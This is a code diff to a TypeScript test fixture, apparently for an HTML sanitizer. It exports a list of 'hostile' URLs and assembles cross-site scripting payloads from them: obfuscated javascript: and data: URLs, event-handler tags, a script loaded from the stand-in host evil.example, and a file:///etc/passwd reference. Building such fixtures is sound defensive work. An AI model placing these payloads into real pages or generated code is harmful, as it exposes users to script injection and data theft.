@@ -12,7 +12,7 @@ const attributes = [
   'id=site', 'name=state', 'class="shell top"', 'data-rich-text=news-get-1', 'srcdoc="<script>alert(1)</script>"', 'srcset="//evil.example/x.png 1x"', 'is=x-own', 'contenteditable', 'tabindex=0 accesskey=x', 'target=_blank', 'rel=opener', 'download', 'ping=//evil.example', 'xmlns:xlink="http://www.w3.org/1999/xlink" xlink:href="javascript:alert(1)"',
 ]
 
-const addresses = [
+export const hostileAddresses = [
   'javascript:alert(1)', 'JaVaScRiPt:alert(1)', ' javascript:alert(1)', 'javascript :alert(1)', 'java\tscript:alert(1)', 'java\nscript:alert(1)', 'java\r\nscript:alert(1)', '\u0001javascript:alert(1)', '\u00a0javascript:alert(1)', 'java\u0000script:alert(1)', 'javascript&colon;alert(1)', 'javascript&#58;alert(1)', 'javascript&#x3a;alert(1)', 'javascript&#0000058alert(1)',
   '&#106;&#97;vascript:alert(1)', '&#x6A&#x61vascript:alert(1)', '&Tab;javascript:alert(1)', 'java&NewLine;script:alert(1)', 'javascript%3Aalert(1)', 'javascript://evil.example/%0aalert(1)', 'vbscript:msgbox(1)', 'data:text/html,<script>alert(1)</script>', 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==', 'data:image/svg+xml,<svg onload=alert(1)>',
   'blob:https://evil.example/x', 'file:///etc/passwd', 'mailto:x@evil.example', 'tel:1', 'ftp://evil.example', 'ws://evil.example', 'view-source:javascript:alert(1)', 'feed:javascript:alert(1)', 'jar:javascript:alert(1)!', 'intent://evil.example', 'livescript:alert(1)', 'mocha:alert(1)', 'filesystem:https://evil.example',
@@ -72,8 +72,8 @@ const closed = (tag: string, rest: string) => `<${tag} ${rest}>text</${tag}>`
 
 export function hostileHtml(): string[] {
   const marked = tags.flatMap((tag) => attributes.map((attribute) => closed(tag, attribute)))
-  const linked = addresses.flatMap((address) => encodings.flatMap((encode) => [closed('a', `href=${encode(address)}`), closed('a', `HREF \t=\n${encode(address)}`)]))
-  const loaded = tags.flatMap((tag, index) => ['src', 'href', 'data', 'action', 'formaction', 'poster', 'background', 'xlink:href'].map((attribute, turn) => closed(tag, `${attribute}="${addresses[(index * 8 + turn) % addresses.length]}"`)))
+  const linked = hostileAddresses.flatMap((address) => encodings.flatMap((encode) => [closed('a', `href=${encode(address)}`), closed('a', `HREF \t=\n${encode(address)}`)]))
+  const loaded = tags.flatMap((tag, index) => ['src', 'href', 'data', 'action', 'formaction', 'poster', 'background', 'xlink:href'].map((attribute, turn) => closed(tag, `${attribute}="${hostileAddresses[(index * 8 + turn) % hostileAddresses.length]}"`)))
   const bare = ['<script>alert(1)</script>', '<script src=//evil.example></script>', '<img src=x onerror=alert(1)>', '<svg/onload=alert(1)>', '<svg><animate onbegin=alert(1) attributeName=x dur=1s>', '<iframe src=javascript:alert(1)>', '<a href="javascript:alert(1)">x</a>', '<p style="background:url(javascript:alert(1))">', '<base href=//evil.example>', '<meta http-equiv=refresh content="0;url=javascript:alert(1)">']
   const nested = nestings.flatMap((nest) => bare.flatMap((inner) => [nest(inner), nest(nest(inner))]))
   return [...marked, ...linked, ...loaded, ...bare, ...nested]
